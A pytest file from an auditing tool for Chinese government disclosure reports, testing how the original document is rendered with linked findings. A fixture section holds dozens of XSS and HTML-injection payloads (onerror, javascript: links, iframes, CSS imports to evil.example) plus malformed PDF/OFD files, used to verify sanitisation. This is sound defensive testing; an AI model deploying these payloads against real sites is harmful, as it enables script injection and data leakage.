"""The original on the audit page: whose places findings lead to and back from, and in which nothing acts."""

import re
from dataclasses import replace
from functools import cache
from html import escape
from io import BytesIO
from pathlib import Path
from random import Random
from zipfile import ZipFile

import pytest
from lxml import html
from pypdfium2 import PdfDocument
from reportlab.pdfgen.canvas import Canvas

from corpus import make_figures
from corpus.variants import OFD, PDF, variants
from evidence.chromium import BROWSER, browser
from gouji.audits import audit_filings
from gouji.inputs.roster import Roster
from gouji.model.document import (
    Document,
    Grid,
    GridCell,
    Note,
    Outline,
    Paragraph,
    Place,
    PrintedPage,
    PrintedWord,
    Source,
)
from gouji.model.finding import Evidence
from gouji.model.text import Text
from gouji.readers.containers import read_document
from gouji.reports import Report, report_document, report_filing
from gouji.show import audit_views as show
from gouji.show.original import original
from gouji.show.render import page_style

DATA = Path(__file__).parents[2] / "data"
INPUTS = Path(__file__).parents[1] / "acceptance" / "inputs"
TRANSPORT = DATA / "2024" / "yunze-transport.html"
OFFICE = DATA / "2020" / "yiwu-gov-office.txt"
[UNRULED] = [variant for variant in variants() if variant.name == "pdf-unruled"]
#: Elements and attributes that the original is made of; a link leads nowhere but to a finding of the page.
ELEMENTS = {"div", "p", "h3", "table", "tr", "td", "a", "span", "svg", "path", "g", "rect", "text"}
LENGTHS = ("x", "y", "rx", "width", "height", "font-size", "textlength")
ATTRIBUTES = {
    *("id", "class", "href", "title", "data-marks", "data-n", "rowspan", "colspan", "lang"),
    *("tabindex", "role", "aria-label"),
    *("viewbox", "d", *LENGTHS),
}


def audited(path):
    report = Report(path.name, path)
    document = report_document(report)
    [audit] = audit_filings([report_filing(report, document, Roster.empty())])
    return document, audit


@pytest.fixture(scope="module", params=[TRANSPORT, OFFICE], ids=lambda path: path.stem)
def shown(request):
    """The original and the findings of a sample, as trees, and its audit."""
    document, audit = audited(request.param)
    parts = [original(document, audit, "zh"), show.findings(audit, "zh", document)]
    return [html.fromstring(part.html) for part in parts], audit


def test_every_link_of_a_finding_has_its_place_and_every_mark_its_finding(shown):
    (page, findings), audit = shown
    places = page.xpath("//@id")
    assert len(set(places)) == len(places)
    led = [link for link in findings.xpath("//@href") if link.startswith("#o-")]
    assert led
    assert {link[1:] for link in led} <= set(places)
    back = set(page.xpath("//a/@href"))
    assert back == {f"#f-{finding.id}" for finding in audit.rule_findings if finding.evidence}
    assert back <= {f"#{name}" for name in findings.xpath("//article/@id")}


def test_a_mistyped_figure_is_outlined_and_numbered():
    document, audit = audited(TRANSPORT)
    page = html.fromstring(original(document, audit, "zh").html)
    findings = html.fromstring(show.findings(audit, "zh", document).html)
    first = findings.xpath("//article[1]//a[text()='在原件中看']/@href")[0]
    [cell] = page.xpath("//*[@id=$name]", name=first[1:])
    assert (cell.tag, cell.text_content(), cell.get("class")) == ("td", "12", "hit h-violation")
    assert cell.xpath("a/@data-marks") == ["1", "2"]


def test_what_was_not_read_has_a_colour_of_its_own(tmp_path):
    path = tmp_path / "2024.html"
    path.write_text(TRANSPORT.read_text("utf-8").replace(">26<", ">2O<", 1), "utf-8")
    document, audit = audited(path)
    shown = original(document, audit, "zh").html
    [cell] = html.fromstring(shown).xpath("//td[contains(@class, 'eye')]")
    assert cell.text_content() == "2O"
    assert "未能读准的格，请对照文件用眼核对" in shown


def test_words_that_a_finding_quotes_lead_to_it(tmp_path):
    document, audit = audited(OFFICE)
    page = html.fromstring(original(document, audit, "zh").html)
    [quote] = page.xpath("//p/a[contains(text(), '申请数量较去年回落12.3%')]")
    assert quote.get("href")[3:] in {finding.id for finding in audit.rule_findings}


@pytest.fixture(scope="module", params=[PDF, OFD, UNRULED], ids=str)
def drawn(request, tmp_path_factory):
    """The original and the findings of a report in a fixed layout whose total is mistyped, and its audit."""
    figures = make_figures(Random(5), "2021", zeros=0.0)
    printed = figures.cells["applications/new/total"]
    story = request.param.story(figures.with_cells(applications__new__total=printed + 1))
    path = tmp_path_factory.mktemp("drawn") / f"2024{request.param.suffix}"
    path.write_bytes(request.param.write_story(story))
    document, audit = audited(path)
    parts = [original(document, audit, "zh"), show.findings(audit, "zh", document)]
    return parts, audit, str(printed + 1)


def test_pages_are_drawn_with_every_figure_and_every_place_of_a_finding(drawn):
    (page, findings), audit, mistyped = drawn
    tree = html.fromstring(page.html)
    words = [word.text for word in tree.xpath("//svg/g/text")]
    assert {cell.printed for cell in audit.filing.form_cells if cell.printed} <= set(words)
    places = tree.xpath("//@id")
    assert len(set(places)) == len(places)
    led = [a for a in html.fromstring(findings.html).xpath("//@href") if a.startswith("#o-")]
    assert led
    assert {link[1:] for link in led} <= set(places)
    # a mark leads to the finding from a box that stands round the figure
    boxes = [box for box in tree.xpath("//svg//rect") if set(box.get("class").split()) & {"hit", "part"}]
    assert boxes
    [box] = [
        box
        for word in tree.xpath("//svg/g/text[text()=$figure]", figure=mistyped)
        for box in boxes
        if all(
            float(box.get(at)) <= float(word.get(at)) <= float(box.get(at)) + float(box.get(size))
            for at, size in (("x", "width"), ("y", "height"))
        )
        and box.getparent().tag == "a"
        and box.getparent().getparent() is word.getparent().getparent()
    ]
    assert "h-violation" in box.get("class")
    link = box.getparent()
    assert link.get("href")[3:] in {finding.id for finding in audit.rule_findings}
    assert (link.get("aria-label"), link.text_content()) == ("见问题 1", "1")


def test_figures_of_a_torn_row_are_outlined_one_by_one():
    document, audit = audited(INPUTS / "torn-row-ruled.pdf")
    tree = html.fromstring(original(document, audit, "zh").html)
    boxes = [box for box in tree.xpath("//rect") if "eye" in box.get("class")]
    assert [box.getparent().get("id") for box in boxes] == ["o-2", *[None] * 6]
    assert {box.get("class") for box in boxes} == {"eye hit h-data_quality"}
    assert len({box.get("x") for box in boxes}) == 7


def test_every_finding_that_has_a_place_is_numbered_there(tmp_path):
    blank = tmp_path / "2024.html"
    blank.write_text(re.sub("<td([^>]*)>0<", r"<td\1><", TRANSPORT.read_text("utf-8")), "utf-8")
    for path in (blank, INPUTS / "torn-row-ruled.pdf"):
        document, audit = audited(path)
        tree = html.fromstring(original(document, audit, "zh").html)
        findings = html.fromstring(show.findings(audit, "zh", document).html)
        led = findings.xpath("//article[.//a[starts-with(@href,'#o-')]]/@id")
        assert len(led) > 3
        assert {f"#{name}" for name in led} == set(tree.xpath("//a/@href"))


def test_the_numbers_of_findings_hide_no_word(drawn):
    (page, _), _, _ = drawn
    for sheet in html.fromstring(page.html).xpath("//svg"):
        grounds = [
            [float(one.get(at)) for at in ("x", "y", "width", "height")] for one in sheet.xpath("a/rect")
        ]
        words = [
            [
                *(float(word.get(at)) for at in ("x", "y", "textlength")),
                float(word.getparent().get("font-size")),
            ]
            for word in sheet.xpath("g/text")
        ]
        grounds = [one for one in grounds if one[3] == 9]
        assert not [
            (ground, word)
            for ground in grounds
            for word in words
            if ground[0] < word[0] + word[2]
            and word[0] < ground[0] + ground[2]
            and ground[1] < word[1]
            and word[1] - 0.75 * word[3] < ground[1] + ground[3]
        ]
        assert not words or all(ground[0] + ground[2] <= 595 for ground in grounds)


def test_exports_without_html_have_the_tables_of_pages_and_no_drawing(drawn):
    (page, _), _, mistyped = drawn
    bundle = page._repr_mimebundle_()
    assert f"| {mistyped} |" in bundle["text/markdown"]
    assert "svg" not in bundle["text/markdown"]
    assert "按读到的文字和表格线逐页画出，没有读到的不画；核对印文请看原文件。" in bundle["text/html"]


def pages_of(*words, **more):
    """A document of one page with these words, and the audit of a report of which nothing is known."""
    printed = PrintedPage(1, 595.0, 842.0, tuple(words), **more)
    source = Source("2024.pdf", "0" * 64, "application/pdf", 1)
    note = Note("pdf_page_without_text", Text("本页只有图像。", "Only an image."), Place(page=2))
    empty = PrintedPage(2, 595.0, 842.0)
    document = Document(
        source, (Paragraph("正文", Place(page=1, line=1)),), {}, (note,), pages=(printed, empty)
    )
    return document, audited(OFFICE)[1]


def test_of_a_paragraph_the_lines_that_are_quoted_are_outlined_whatever_radicals_they_are_set_in():
    document, audit = audited(OFFICE)
    quote = "下一步将重点抓好以下四个方面工作:"
    [one] = [one for one in document.blocks if isinstance(one, Paragraph) and quote in one.text]
    before, after = one.text.split(quote)
    lines = [before.strip(), quote[:9], quote[9:].replace("工", "⼯"), after.strip()]
    outlines = [
        Outline(one.place, (10.0, 20.0 * at, 300.0, 20.0 * at + 10), text)
        for at, text in enumerate(lines, start=1)
        if text
    ]
    words = [PrintedWord(line.text, line.extent[0], line.extent[3], 290.0, 10.0) for line in outlines]
    page = PrintedPage(1, 595.0, 842.0, tuple(words), (), tuple(outlines))
    drawn = original(replace(document, pages=(page,)), audit, "zh").html
    tops = [float(box.get("y")) + 1.5 for box in html.fromstring(drawn).xpath("//svg//rect[@width='293']")]
    assert tops == [line.extent[1] for line in outlines if line.text in lines[1:3]]


def test_lengths_without_end_and_pages_without_measure_are_not_drawn():
    word = PrintedWord("甲", 10.0, 20.0, 9.0, 9.0)
    odd = [word._replace(x=float("nan")), word._replace(size=float("inf")), word._replace(text="乙")]
    many = [word] * 5_000
    page = original(*pages_of(*odd, *many, rules=((0.0, float("inf"), 1.0, 1.0), (1.0, 2.0, 1.0, 9.0))), "zh")
    tree = html.fromstring(page.html)
    assert tree.xpath("//path/@d") == ["M1 2V9"]
    drawn = [word.text for word in tree.xpath("//svg/g/text")]
    assert (drawn[0], len(drawn)) == ("乙", 3_998)
    assert "本页内容过多，没有全部画出" in page.html
    assert "nan" not in page.html
    # a page that is wider than any says so
    document, audit = pages_of(word)
    document = replace(document, pages=(replace(document.pages[0], width=1e9),))
    assert "（本页尺寸异常，没有画出）" in original(document, audit, "zh").html
    assert "svg" not in original(document, audit, "zh").html
    # a page of which nothing was read says so
    assert [p.text for p in tree.xpath("//h3[2]/following-sibling::p")] == ["本页只有图像。"]


def scan_of(cells, pages=1, picture=b"\x89PNG"):
    """A document of recognised pages that each show so many cells of a row, and the audit of a report."""
    grids = [
        Grid(
            tuple(
                GridCell("1", 0, column, Place(page=page, table=page, row=1, column=column + 1))
                for column in range(cells)
            ),
            Place(page=page, table=page),
            "exact",
        )
        for page in range(1, pages + 1)
    ]
    shown = [
        PrintedPage(
            number,
            595.0,
            842.0,
            outlines=tuple(
                Outline(cell.place, (50.0 * at, 90.0, 50.0 * at + 50, 99.0))
                for at, cell in enumerate(grid.cells)
            ),
            picture=picture,
        )
        for number, grid in enumerate(grids, start=1)
    ]
    audit = audited(OFFICE)[1]
    finding = audit.rule_findings[0]
    places = [cell.place for grid in grids for cell in grid.cells]
    evidence = tuple(Evidence(audit.filing.source.name, place.text(), "") for place in places)
    found = replace(finding, cells=(), printed={}, evidence=evidence)
    source = Source("2024.pdf", "0" * 64, "application/pdf", 1)
    document = Document(source, tuple(grids), pages=tuple(shown))
    return document, replace(audit, rule_findings=(found,))


def test_a_recognised_page_is_shown_by_its_picture_with_the_cells_outlined():
    page = original(*scan_of(3, picture=b"\x89PNG..."), "zh")
    tree = html.fromstring(page.html)
    [picture] = tree.xpath("//svg/image")
    assert dict(picture.attrib) == {
        "width": "595",
        "height": "842",
        "href": "data:image/png;base64,iVBORy4uLg==",
    }
    boxes = tree.xpath("//svg/image/following-sibling::a/rect[not(@class='ground')]")
    assert [box.get("x") for box in boxes] == ["0", "50", "100"]
    assert len({box.getparent().get("href") for box in boxes}) == 1
    # the first of a row has the number for all
    assert [box.getparent().text_content() for box in boxes] == ["1", "", ""]
    assert "各页的图像，缩小并减色，便于找到位置；核对印文请看原文件。" in page.html
    assert "data:" not in page._repr_mimebundle_()["text/markdown"]


def test_pictures_of_a_long_scan_are_left_out_and_their_cells_are_not():
    shown = original(*scan_of(2, pages=30, picture=b"\x89PNG" + b"." * 50_000), "zh").html
    tree = html.fromstring(shown)
    assert len(shown) < 800_000
    assert 5 < len(tree.xpath("//svg/image")) < 12
    assert len(tree.xpath("//svg/a/rect[@height='9' and @width='50']")) == 60
    assert tree.xpath("//h3[text()='第 30 页']/following-sibling::p[1]/text()") == ["（图像从略）"]


def test_of_a_very_long_file_the_pages_without_marks_are_told_and_not_drawn():
    word = PrintedWord("甲", 10.0, 20.0, 9.0, 9.0)
    document, audit = pages_of(word)
    [paragraph] = [one for one in audited(OFFICE)[0].blocks if "下一步将重点抓好" in getattr(one, "text", "")]
    full = [PrintedPage(number, 595.0, 842.0, (word,) * 3_000) for number in range(1, 5)]
    marked = PrintedPage(
        5, 595.0, 842.0, (word,), (), (Outline(paragraph.place, (9.0, 9.0, 90.0, 20.0), "甲"),)
    )
    document = replace(document, blocks=(paragraph,), pages=(*full, marked))
    shown = original(document, audit, "zh").html
    assert html.fromstring(shown).xpath("//h3/text()") == ["第 1 页", "第 2 页", "第 5 页"]
    assert "（第 3、4 页没有标记，略去）" in shown
    assert "(pages 3, 4 have no marks and are left out)" in original(document, audit, "en").html


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "escaped script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "picture": "<img src=x onerror=alert(1)>",
    "escaped picture": "&lt;img src=http://evil.example/x onerror=alert(1)&gt;",
    "frame": "<iframe src=http://evil.example></iframe>",
    "escaped frame": '&lt;iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"&gt;',
    "svg": "<svg onload=alert(1)><text>svg</text></svg>",
    "escaped svg": "&lt;svg onload=alert(1)&gt;",
    "link": '<a href="javascript:alert(1)">点</a>',
    "style": "<style>body{display:none}</style>",
    "escaped style": "&lt;style&gt;@import url(http://evil.example)&lt;/style&gt;",
    "attribute": '" onmouseover=alert(1) x="',
    "apostrophe": "' autofocus onfocus=alert(1) '",
    "closing": "&lt;/td&gt;&lt;/table&gt;&lt;/div&gt;&lt;/main&gt;",
    "base": '<base href="http://evil.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=http://evil.example">',
    "template": "{{ 7*7 }}{% raw %}",
    "direction": "\u202e321\u202c\u2066",
    "entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "comment": "--&gt;&lt;!-- &lt;![CDATA[",
    "form": "<form action=http://evil.example><input name=q autofocus></form>",
    "math": "$$\\href{javascript:alert(1)}{x}$$",
}
#: More of what only pages have.
OF_PAGES = {
    "set of sources": '<img srcset="http://evil.example/a 1x, http://evil.example/b 2x"><picture><source'
    " srcset=http://evil.example/c><img></picture>",
    "MathML": '<math href="javascript:alert(1)"><annotation-xml encoding="text/html"><script>alert(1)'
    "</script></annotation-xml></math>",
    "fixed": '<b style="position:fixed;inset:0;z-index:9999;background:#fff">盖住</b>',
    "sticky": '<b style="position:sticky;top:0;width:300vw;margin:-99em;transform:scale(99)">粘住</b>',
    "huge name": f'<b id="{"o-1" * 30_000}" class="{"hit " * 9_000}">长</b>',
    "our names": '<b id="o-1"></b><a id="f-g000000000000000" name="frame"></a><b id="after">同名</b>',
    "print": "<style>@media print{*{display:none!important}}@page{size:1px}</style>",
    "escaped print": "&lt;style media=print&gt;*{display:none}&lt;/style&gt;",
    "button": "<button autofocus onfocus=alert(1) formaction=javascript:alert(1)>按</button><select autofocus"
    " onfocus=alert(1)></select><textarea autofocus onfocus=alert(1)></textarea>",
    "use": '<svg><use href="http://evil.example/a.svg#b"/><foreignObject><body onload=alert(1)>'
    '</foreignObject><animate onbegin=alert(1) attributeName=href to="javascript:alert(1)"/><image href=http://evil.example/i>',
    "import": "<style>@import 'http://evil.example/a';@font-face{font-family:a;src:url(http://evil.example/f)}"
    "td{background:url(http://evil.example/b)}</style>",
    "address of style": '<b style="background:url(http://evil.example/x);list-style:url(//evil.example)">底</b>',
    "overrides": "".join(map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x61C))),
    "object": "<object data=http://evil.example/x><embed src=http://evil.example/y></object><applet code=z>",
    "shadow": "<div><template shadowrootmode=open><style>*{all:unset}</style><img src=x onerror=alert(1)>"
    "<slot></slot></template>影</div>",
    "inert": "<template><img src=x onerror=alert(1)></template>",
    "media": "<video src=http://evil.example/v poster=http://evil.example/p autoplay onplay=alert(1)></video>"
    "<audio src=http://evil.example/a autoplay></audio><track src=http://evil.example/t default>",
    "links": "<link rel=stylesheet href=http://evil.example/a><link rel=preload as=image href=http://evil.example/b>"
    "<link rel=dns-prefetch href=http://evil.example><a ping=http://evil.example href=#>点</a>",
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\'">',
    "raw text": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><title></title>'
    "<xmp></xmp>",
    "dialog": "<dialog open style=inset:0>窗</dialog><b popover=manual ontoggle=alert(1)>浮</b><details open"
    " ontoggle=alert(1)>开</details><marquee onstart=alert(1)>走</marquee>",
    "nested": "<div>" * 90,
}
OF_PAGES["all, escaped"] = escape("".join((*HOSTILE.values(), *OF_PAGES.values())))[:30_000]


def pdf(drawn, size=(595, 842)):
    """A page of a PDF file on which a word is drawn, and more as its language has it."""
    data = BytesIO()
    canvas = Canvas(data, pagesize=size)
    canvas.setFont("Helvetica", 10)
    canvas.setTitle("<script>alert(1)</script>")
    canvas.drawString(50, 700, "Total 25")
    for one in drawn:
        canvas.addLiteral(one) if isinstance(one, str) else canvas.drawString(*one)
    canvas.linkURL("javascript:alert(1)", (0, 0, 595, 842))
    canvas.save()
    return data.getvalue()


def shown_at(place, size=10):
    return f"BT /F1 {size} Tf {place} Td (Total) Tj ET"


def ofd(pattern, replacement):
    """An OFD file with a report of which something is replaced everywhere."""
    put = replacement if callable(replacement) else lambda _: replacement
    data = BytesIO()
    with ZipFile(BytesIO(report_as_ofd())) as whole, ZipFile(data, "w") as spoilt:
        for name in whole.namelist():
            spoilt.writestr(name, re.sub(pattern, put, whole.read(name).decode()))
    return data.getvalue()


@cache
def report_as_ofd():
    return OFD.write_story(OFD.story(make_figures(Random(5), "2021", zeros=0.0)))


WORDS = "".join(HOSTILE.values())
BOX = "<ofd:PhysicalBox>[^<]*"
#: Files whose words, places and measures are none that a page has.
ODD_FILES = {
    "script.pdf": lambda: pdf((20, 40 * at, text) for at, text in enumerate(HOSTILE.values(), start=1)),
    "size.pdf": lambda: pdf([shown_at("50 50", "1" + "0" * 30), shown_at("50 90", 0.00001)]),
    "far.pdf": lambda: pdf([shown_at("9" * 40 + " 5"), "0 5 m " + "9" * 40 + " 5 l S"]),
    "not a number.pdf": lambda: pdf([shown_at("NaN 5"), "NaN 5 m inf 5 l S", shown_at("5 5", "NaN")]),
    "wide.pdf": lambda: pdf([], (1e9, 1e9)),
    "nothing.pdf": lambda: pdf([], (0, 0)),
    "glyphs.pdf": lambda: pdf((at % 50 * 11, at // 50 * 8, "9") for at in range(5_000)),
    "rules.pdf": lambda: pdf(f"0 {at} m 500 {at} l S" for at in range(3_000)),
    "boxes.pdf": lambda: pdf(f"{at % 60 * 9} {at // 60 * 9} 9 9 re S" for at in range(1_200)),
    "matrix.pdf": lambda: pdf(["1e30 0 0 1e-30 5 5 cm", shown_at("5 5")]),
    "controls.pdf": lambda: pdf([(50, 50, "\x00\x08\x1b[31m\x85")]),
    "script.ofd": lambda: ofd("(<ofd:TextCode[^>]*>)[^<]{6,}", lambda code: code[1] + escape(WORDS)),
    "box of words.ofd": lambda: ofd(BOX, f"<ofd:PhysicalBox>{escape(WORDS)}"),
    "wide.ofd": lambda: ofd(BOX, "<ofd:PhysicalBox>0 0 1e308 1e308"),
    "far.ofd": lambda: ofd("<ofd:AbbreviatedData>[^<]*", "<ofd:AbbreviatedData>M 0 0 L 1e300 0"),
    "steps.ofd": lambda: ofd(' DeltaX="[^"]*"', ' DeltaX="1e300 -1e300 NaN"'),
    "font.ofd": lambda: ofd('FontName="[^"]*"', f'FontName="{escape(WORDS)}"'),
}


def test_what_nobody_sees_is_drawn_no_more_than_read():
    document = read_document(
        ofd(">([^<]{3,})</ofd:TextCode>", lambda code: f">\u200b{code[1]}</ofd:TextCode>"), "2024.ofd"
    )
    printed = [word.text for page in document.pages for word in page.words]
    lines = [one.text for page in document.pages for one in page.outlines]
    assert len(printed) > 200
    assert not [text for text in (*printed, *lines, *document.texts) if "\u200b" in text]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """What the page shows of a report with hostile words in a cell, in its prose and in its title."""
    folder = tmp_path_factory.mktemp("hostile")
    words = TRANSPORT.read_text("utf-8")
    paths = []
    for name, text in (HOSTILE | OF_PAGES).items():
        path = folder / f"{name}.html"
        spoilt = words.replace(">26<", f">2{text}6<", 1).replace("<p>", f"<p>甲{text}乙。", 1)
        path.write_text(spoilt, "utf-8")
        paths.append(path)
    for name, made in ODD_FILES.items():
        path = folder / name
        path.write_bytes(made())
        paths.append(path)
    reports = [Report(path.name, path) for path in paths]
    documents = [report_document(report) for report in reports]
    filings = [report_filing(r, d, Roster.empty()) for r, d in zip(reports, documents, strict=True)]
    audits = audit_filings(filings)
    words = [PrintedWord(text, 10.0, 20.0 * at, 300.0, 10.0) for at, text in enumerate(HOSTILE.values())] * 3
    return {
        name: original(document, audit, "zh").html
        for name, document, audit in zip([*HOSTILE, *OF_PAGES, *ODD_FILES], documents, audits, strict=True)
    } | {"pages": original(*pages_of(*words), "zh").html}


@pytest.mark.parametrize("name", [*HOSTILE, *OF_PAGES, *ODD_FILES, "pages"])
def test_nothing_of_a_report_runs_loads_or_escapes(name, hostile):
    page = html.fromstring(hostile[name])
    for element in page.iter():
        assert element.tag in ELEMENTS
        assert set(element.attrib) <= ATTRIBUTES
        assert element.get("href", "#").startswith("#")
    # all that was opened is closed in the frame that it stands in
    [frame] = page.find_class("original")
    assert frame.getparent() is page
    assert frame.getnext() is None
    assert not set(hostile[name]) & set(OF_PAGES["overrides"])
    # no more than a page holds, and no length that it cannot have
    assert len(hostile[name]) < 500_000
    lengths = [element.get(at) for element in page.iter() for at in LENGTHS if element.get(at)]
    lengths += " ".join(page.xpath("//@viewbox | //@d")).translate(str.maketrans("MHV", "   ")).split()
    assert all(re.fullmatch(r"-?[0-9]{1,5}(\.[0-9])?", length) for length in lengths)


@pytest.fixture(scope="module")
def page():
    """A page of a browser that tells what scripts have run."""
    if BROWSER is None:
        pytest.skip("no Chromium on this machine")
    with browser() as page:
        page.screen(1280, 900)
        caught = "window.ran = []; window.alert = (said) => window.ran.push(said)"
        page.call("Page.addScriptToEvaluateOnNewDocument", source=caught)
        yield page


def written(path, *shown):
    """Write a page of what is shown, with the style of all pages and without their policy."""
    frame = f'<main id="frame" class="gj">{"".join(shown)}</main><p id="after">after</p>'
    path.write_text(f"<!doctype html><meta charset=utf-8><style>{page_style()}</style>{frame}", "utf-8")
    return path.as_uri()


def test_nothing_of_a_report_runs_in_a_browser_even_without_the_policy_of_the_page(page, hostile, tmp_path):
    places = "[...document.querySelectorAll('#frame *')].filter((one) => one.checkVisibility())"
    for number, (name, shown) in enumerate(hostile.items()):
        address = written(tmp_path / f"{number}.html", shown)
        begun = len(page.asked)
        page.open(address)
        # what waits for a hand gets one
        page.look(
            f"{places}.forEach((one) => ['click', 'mouseover', 'focus'].forEach((event) =>"
            " one.dispatchEvent(new Event(event, {bubbles: true}))))"
        )
        assert page.look("window.ran") == [], name
        assert page.asked[begun:] == [address], name
        assert page.look("document.getElementById('after').parentElement === document.body"), name
        assert page.look("document.getElementById('after').checkVisibility()"), name
        assert page.look(f"{places}.length > {1 if name in ODD_FILES else 50}"), name
        page.call("Emulation.setEmulatedMedia", media="print")
        assert page.look("document.getElementById('after').checkVisibility()"), name
        assert page.look(f"{places}.length > {1 if name in ODD_FILES else 50}"), name
        page.call("Emulation.setEmulatedMedia", media="")
    assert page.said == []


#: Where the place that is led to stands on the screen, as parts of its width and height.
MIDDLE = """(() => {
  const {x, y, width, height} = document.querySelector(':target').getBoundingClientRect();
  return width > 0 && height > 0 && [(x + width / 2) / innerWidth, (y + height / 2) / innerHeight];
})()"""


def test_a_finding_leads_to_its_outline_in_the_middle_of_the_screen_and_the_outline_back(
    page, drawn, tmp_path
):
    (shown, findings), _, _ = drawn
    for screen in ((1280, 900), (390, 780)):
        page.screen(*screen)
        page.open(written(tmp_path / "audit.html", shown.html, findings.html))
        page.look("document.querySelector('.finding a[href^=\"#o-\"]').focus()")
        page.press("Enter")
        assert page.look("document.querySelector('svg :target').tagName") == "a"
        across, down = page.look(MIDDLE)
        assert 0.1 < across < 0.9
        assert 0.25 < down < 0.75
        marked = """[...document.querySelectorAll('svg a > rect:first-child')]
          .filter((one) => getComputedStyle(one).strokeWidth === "3px").map((one) => one.parentElement.id)"""
        assert page.look(marked) == [page.look("location.hash.slice(1)")]
        link = page.look("document.querySelector('svg :target').getAttribute('href')")
        # a hand at the figure meets the outline, not the word that lies over it
        at = page.look("""(() => {
          const {x, y, width, height} = document.querySelector(':target > rect').getBoundingClientRect();
          return [x + width / 4, y + height * 3 / 4];
        })()""")
        for kind in ("mousePressed", "mouseReleased"):
            page.call("Input.dispatchMouseEvent", type=kind, x=at[0], y=at[1], button="left", clickCount=1)
        assert page.look("location.hash") == link
        assert page.look("document.querySelector(':target').matches('.finding')")
        # so does the key with which one came
        page.look("history.back()")
        page.look("document.querySelector('.finding a[href^=\"#o-\"]').focus()")
        page.press("Enter")
        page.press("Enter")
        assert page.look("location.hash") == link


def test_on_paper_headings_stand_with_their_tables_and_lines_of_a_text_side_by_side(page, tmp_path):
    page.screen(1280, 900)
    told = {}
    for path in (TRANSPORT, OFFICE):
        document, audit = audited(path)
        page.open(written(tmp_path / f"{path.stem}.html", original(document, audit, "zh").html))
        with PdfDocument(page.printed()) as pdf:
            told[path] = ["".join(one.get_textpage().get_text_bounded().split()) for one in pdf]
    [four] = [text for text in told[TRANSPORT] if "四、政府信息公开行政复议、行政诉讼情况" in text]
    assert "未经复议直接起诉" in four
    assert "尚未审结" in four
    [three] = [text for text in told[TRANSPORT] if "三、收到和处理政府信息公开申请情况" in text]
    assert "四、结转下年度继续办理" in three
    # five hundred lines, most of them a figure
    assert len(told[OFFICE]) < 7


def test_all_findings_of_a_place_are_led_to_from_it():
    document, audit = audited(TRANSPORT)
    [first, *_] = audit.rule_findings
    many = [replace(first, nth=n) for n in range(1, 21)]
    audit = replace(audit, rule_findings=tuple(many))
    links = {f"#f-{one.id}" for one in many}
    tree = html.fromstring(original(document, audit, "zh").html)
    assert set(tree.xpath("//td[@id='o-1']/a/@href")) == links
    # on a page that is drawn the place has room for some; the list below it has the rest
    [table] = [one for one in document.blocks if isinstance(one, Grid) and len(one.rows) > 20]
    corners = [(cell.place, 50.0 * cell.column, 20.0 * cell.row) for cell in table.cells]
    outlines = tuple(Outline(place, (x, y, x + 40, y + 15)) for place, x, y in corners)
    document = replace(document, pages=(PrintedPage(1, 595.0, 842.0, (), ((1.0, 1.0, 9.0, 1.0),), outlines),))
    tree = html.fromstring(original(document, audit, "zh").html)
    own = tree.xpath("//svg/a[@id='o-1'] | //svg/a[@id='o-1']/following-sibling::a[position()<8]")
    assert [one.text_content() for one in own] == [*"1234567", "+13"]
    assert own[-1].get("href") == "#o-1-more"
    below = tree.xpath("//p[@id='o-1-more']/a/@href")
    assert below[0] == "#o-1"
    assert {*below[1:], *(one.get("href") for one in own[:-1])} == links
    [rest] = tree.xpath("//p[@id='o-1-more']")
    assert rest.text_content() == f"第 1 处另见： {' '.join(map(str, range(8, 21)))}"
    assert len(tree.xpath("//@id")) == len(set(tree.xpath("//@id")))


def test_of_very_wide_rows_what_is_marked_is_shown(tmp_path):
    path = tmp_path / "2024.html"
    path.write_text(TRANSPORT.read_text("utf-8").replace("</tr>", f"{'<td>0</td>' * 1_900}</tr>"), "utf-8")
    document, audit = audited(path)
    shown = original(document, audit, "zh").html
    assert len(shown) < 150_000
    tree = html.fromstring(shown)
    assert {len(row) for row in tree.xpath("//tr")} == {101}
    assert tree.xpath("//tr/td[last()]/text()") == ["……"] * len(tree.xpath("//tr"))
    assert tree.xpath("//td[contains(@class, 'hit')]")


def test_of_a_very_long_report_what_is_marked_is_shown(tmp_path):
    path = tmp_path / "2024.html"
    filler = "".join(f"<p>第{number}条措施已经落实到位。</p>" for number in range(9000))
    path.write_text(TRANSPORT.read_text("utf-8").replace("<table", f"{filler}<table", 1), "utf-8")
    document, audit = audited(path)
    shown = original(document, audit, "zh").html
    assert len(shown) < 120_000
    assert "段没有标记的内容" in shown
    assert html.fromstring(shown).xpath("//td[@class='hit h-violation']/a[@data-marks='1']")
